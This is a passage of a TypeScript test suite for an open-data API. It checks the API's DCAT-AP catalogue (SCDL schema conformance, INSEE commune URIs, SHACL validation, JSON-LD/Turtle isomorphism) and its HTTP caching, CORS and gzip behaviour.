        expect(distribution[`${DCAT}mediaType`][0]["@id"]).toMatch(
          /^https:\/\/www\.iana\.org\/assignments\/media-types\/(text\/csv|application\/json|application\/vnd)/,
        );
      }
    }
  });

  it("says that the SCDL dataset and its CSV conform to the official schema, by the URL data.gouv.fr knows", async () => {
    const doc = (await (await get("catalog.jsonld")).json()) as jsonld.JsonLdDocument;
    // Flattened: every node of the graph at the top, as a harvester's triple store sees them.
    const flattened: unknown = await jsonld.flatten(doc, undefined, { documentLoader: offlineLoader });
    if (!Array.isArray(flattened)) throw new Error("a flattened graph is an array of nodes");
    const nodes: Array<Record<string, any>> = flattened;
    const byId = new Map(nodes.map((node) => [node["@id"], node]));
    const scdl = nodes.find((node) => node[`${DCT}identifier`]?.[0]?.["@value"] === "observatoire-ess-niortais/scdl-subventions");
    const conformsTo = (node: Record<string, any> | undefined) => node?.[`${DCT}conformsTo`]?.map((c: { "@id": string }) => c["@id"]);
    expect(conformsTo(scdl)).toEqual([SCDL_SCHEMA_URL]);
    const [distribution] = scdl?.[`${DCAT}distribution`] ?? [];
    expect(conformsTo(byId.get(distribution?.["@id"]))).toEqual([SCDL_SCHEMA_URL]);
    expect(byId.get(SCDL_SCHEMA_URL)?.["@type"]).toEqual([`${DCT}Standard`]);
  });

  it("places every dataset in the EPCI, made of its communes by INSEE URI, and the SCDL under décret 2017-779", async () => {
    const flattened: unknown = await jsonld.flatten((await (await get("catalog.jsonld")).json()) as jsonld.JsonLdDocument, undefined, {
      documentLoader: offlineLoader,
    });
    if (!Array.isArray(flattened)) throw new Error("a flattened graph is an array of nodes");
    const nodes: Array<Record<string, any>> = flattened;
    const byId = new Map(nodes.map((node) => [node["@id"], node]));
    const ids = (node: Record<string, any> | undefined, property: string): string[] => (node?.[property] ?? []).map((v: { "@id": string }) => v["@id"]);
    const territory = loadTerritory();
    const datasets = nodes.filter((node) => node["@type"]?.includes(`${DCAT}Dataset`));
    expect(datasets).toHaveLength(DATASETS.length + 1);
    for (const dataset of datasets) {
      const places = ids(dataset, `${DCT}spatial`).map((id) => byId.get(id));
      const epci = places.find((place) => place?.[`${DCT}identifier`]?.[0]?.["@value"] === territory.epciSiren);
      expect(epci?.["http://www.w3.org/2004/02/skos/core#prefLabel"]?.[0]?.["@value"]).toBe(territory.name);
      expect(ids(epci, `${DCT}hasPart`).sort()).toEqual(territory.communes.map((c) => `http://id.insee.fr/geo/commune/${c.code}`).sort());
    }
    const scdl = datasets.find((node) => node[`${DCT}identifier`]?.[0]?.["@value"] === "observatoire-ess-niortais/scdl-subventions");
    const [decree] = ids(scdl, "http://data.europa.eu/r5r/applicableLegislation");
    // The JORF text the official SCDL schema cites as its source.
    expect(decree).toBe("https://www.legifrance.gouv.fr/jorf/id/JORFTEXT000034600552");
    expect(byId.get(decree)?.["@type"]).toEqual(["http://data.europa.eu/eli/ontology#LegalResource"]);
    expect(datasets.filter((node) => node["http://data.europa.eu/r5r/applicableLegislation"])).toHaveLength(1);
  });

  it("gives each dataset its own years and first publication, and none to reference tables", async () => {
    const doc = (await (await get("catalog.jsonld")).json()) as {
      "dcat:dataset": Array<{ "dct:identifier": string; "dct:issued"?: string; "dct:temporal"?: { "dcat:startDate": string; "dcat:endDate": string } }>;
    };
    const byName = new Map(doc["dcat:dataset"].map((d) => [d["dct:identifier"].replace("observatoire-ess-niortais/", ""), d]));
    for (const name of ["communes", "partners"]) {
      expect(byName.get(name)?.["dct:temporal"], name).toBeUndefined();
      expect(byName.get(name)?.["dct:issued"], name).toBeUndefined();
    }
    const span = async (sql: string) => {
      const [row] = await db.sql.query<{ first: number; last: number; issued: Date | string }>(sql);
      return { "dcat:startDate": `${row?.first}-01-01`, "dcat:endDate": `${row?.last}-12-31`, issued: new Date(row?.issued ?? 0).getTime() };
    };
    const expected = {
      jobs: await span("SELECT min(year) AS first, max(year) AS last, min(published_at) AS issued FROM job_record WHERE status = 'PUBLISHED'"),
      fundings: await span("SELECT min(year) AS first, max(year) AS last, min(published_at) AS issued FROM funding WHERE status = 'PUBLISHED'"),
      incubations: await span(
        "SELECT min(extract(year FROM start_date))::int AS first, max(extract(year FROM start_date))::int AS last, min(published_at) AS issued FROM incubation WHERE status = 'PUBLISHED'",
      ),
    };
    for (const [name, { issued, ...temporal }] of Object.entries(expected)) {
      expect(byName.get(name)?.["dct:temporal"], name).toMatchObject(temporal);
      // The catalogue says seconds; the database keeps milliseconds.
      expect(Math.floor(Date.parse(byName.get(name)?.["dct:issued"] ?? "") / 1000), name).toBe(Math.floor(issued / 1000));
    }
  });

  it("passes the DCAT-AP 3.0.0 SHACL shapes: no violation, and only the warnings the data cannot answer", async () => {
    const graph = new Store(new Parser({ format: "Turtle" }).parse(await text("catalog.ttl")));
    const shapes = (file: string) =>
      new Store(new Parser({ format: "Turtle" }).parse(readFileSync(new URL(`../specs/dcat-ap-3.0.0/${file}`, import.meta.url), "utf8")));
    const SH = "http://www.w3.org/ns/shacl#";
    const found: Record<string, string[]> = {};
    for (const file of ["shapes.ttl", "range.ttl", "mdr-vocabularies.shape.ttl", "shapes_recommended.ttl"]) {
      const report = await new SHACLValidator(shapes(file)).validate(graph);
      const violations = report.results.filter((r) => r.severity?.value === `${SH}Violation`);
      expect(
        violations.map((r) => `${r.path?.value} ${r.message.map((m) => m.value).join(" ")}`),
        file,
      ).toEqual([]);
      found[file] = [...new Set(report.results.map((r) => `${r.path?.value.replace(/^.*[#/]/, "")}`))].sort();
    }
    // The publisher is no EU corporate body; the EPCI and its communes are INSEE's places, in no EU
    // vocabulary; the places come without geometry; the reference tables (communes, partners) cover
    // no period, and say none rather than a false one.
    expect(found).toEqual({
      "shapes.ttl": [],
      "range.ttl": [],
      "mdr-vocabularies.shape.ttl": ["publisher", "spatial"],
      "shapes_recommended.ttl": ["bbox", "centroid", "temporal"],
    });
  });

  it("says the same in Turtle: the two graphs are isomorphic", async () => {
    const turtle = await text("catalog.ttl");
    const nquads = new Writer({ format: "N-Quads" }).quadsToString(new Parser({ format: "Turtle" }).parse(turtle));
    const doc = (await (await get("catalog.jsonld")).json()) as jsonld.JsonLdDocument;
    // Canonical N-Quads (URDNA2015) name blank nodes by the graph's shape: equal text, same graph.
    const canonical = (input: jsonld.JsonLdDocument | string, options: object) =>
      jsonld.canonize(input as jsonld.JsonLdDocument, { algorithm: "URDNA2015", format: "application/n-quads", documentLoader: offlineLoader, ...options });
    const fromTurtle = await canonical(nquads, { inputFormat: "application/n-quads" });
    const fromJsonLd = await canonical(doc, {});
    expect(fromTurtle.split("\n").length).toBeGreaterThan(50);
    expect(fromTurtle).toBe(fromJsonLd);
  });

  it("links only to files that are served", async () => {
    const doc = (await (await get("catalog.jsonld")).json()) as { "dcat:dataset": Array<{ "dcat:distribution": Array<{ "dcat:downloadURL": string }> }> };
    for (const d of doc["dcat:dataset"]) {
      for (const dist of d["dcat:distribution"]) expect(await status(dist["dcat:downloadURL"].replace("https://api.test/opendata/", ""))).toBe(200);
    }
  });
});

describe("HTTP", () => {
  it("answers 304 to a client that has the current version, and 200 once the data change", async () => {
    const first = await get("enterprises.csv");
    await first.body?.cancel();
    const etag = first.headers.get("etag") as string;
    const lastModified = first.headers.get("last-modified") as string;
    expect(await status("enterprises.csv", { "if-none-match": etag })).toBe(304);
    expect(await status("enterprises.csv", { "if-modified-since": lastModified })).toBe(304);
    expect(await status("enterprises.csv?commune=79191", { "if-none-match": etag })).toBe(200);

    await new Promise((resolve) => setTimeout(resolve, 1100)); // Last-Modified has one-second precision
    await db.sql.query("UPDATE enterprise SET name = name WHERE id = (SELECT id FROM enterprise LIMIT 1)");
    const after = await get("enterprises.csv", { "if-none-match": etag });
    await after.body?.cancel();
    expect(after.status).toBe(200);
    expect(after.headers.get("etag")).not.toBe(etag);
    expect(await status("enterprises.csv", { "if-modified-since": lastModified })).toBe(200);
  });

  it("renews the deadline report every day, since grants become late as days pass", async () => {
    vi.useFakeTimers({ toFake: ["Date"] });
    try {
      vi.setSystemTime(new Date("2030-05-01T10:00:00Z"));
      const today = await get("scdl/conformite.json");
      const report = (await today.json()) as ConformityReport;
      expect(report.dateDuRapport).toBe("2030-05-01");
      expect(await status("scdl/conformite.json", { "if-none-match": today.headers.get("etag") as string })).toBe(304);
      vi.setSystemTime(new Date("2030-05-02T10:00:00Z"));
      expect(await status("scdl/conformite.json", { "if-none-match": today.headers.get("etag") as string })).toBe(200);
      expect(await status("scdl/conformite.json", { "if-modified-since": today.headers.get("last-modified") as string })).toBe(200);
    } finally {
      vi.useRealTimers();
    }
  });

  it("is open to any origin, names files with the date, suits a CDN and compresses", async () => {
    const plain = await get("communes.csv");
    expect(plain.headers.get("access-control-allow-origin")).toBe("*");
    expect(plain.headers.get("content-disposition")).toMatch(/^attachment; filename="communes-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(plain.headers.get("cache-control")).toMatch(/public, max-age=\d+/);
    const body = await plain.text();
    const zipped = await get("communes.csv", { "accept-encoding": "gzip, br" });
    expect(zipped.headers.get("content-encoding")).toBe("gzip");
    expect(gunzipSync(Buffer.from(await zipped.arrayBuffer())).toString("utf8")).toBe(body);
  });

  it("compresses only for a client that takes gzip (RFC 9110 qualities)", async () => {
    const cases: Array<[string, boolean]> = [
      ["gzip;q=0", false],
      ["gzip;q=0, br", false],
      ["identity", false],
      ["*;q=0", false],
      ["br;q=1, gzip;q=0.5", true],
      ["*", true],
      ["GZIP", true],
    ];
    for (const [header, zipped] of cases) {
      const response = await get("communes.csv", { "accept-encoding": header });
      await response.body?.cancel();
      expect(response.headers.get("content-encoding"), header).toBe(zipped ? "gzip" : null);
    }
  });

  it("tells the length of the catalogue and the Data Package, on HEAD as on GET", async () => {
    for (const path of ["datapackage.json", "catalog.ttl", "catalog.jsonld", "scdl/conformite.json"]) {
      const bytes = Buffer.byteLength(await text(path));
      const head = await api.request(path, { method: "HEAD" });
      expect(head?.status, path).toBe(200);
      expect(head?.headers.get("content-length"), path).toBe(String(bytes));
      expect((await get(path)).headers.get("content-length"), path).toBe(String(bytes));
    }
  });
});
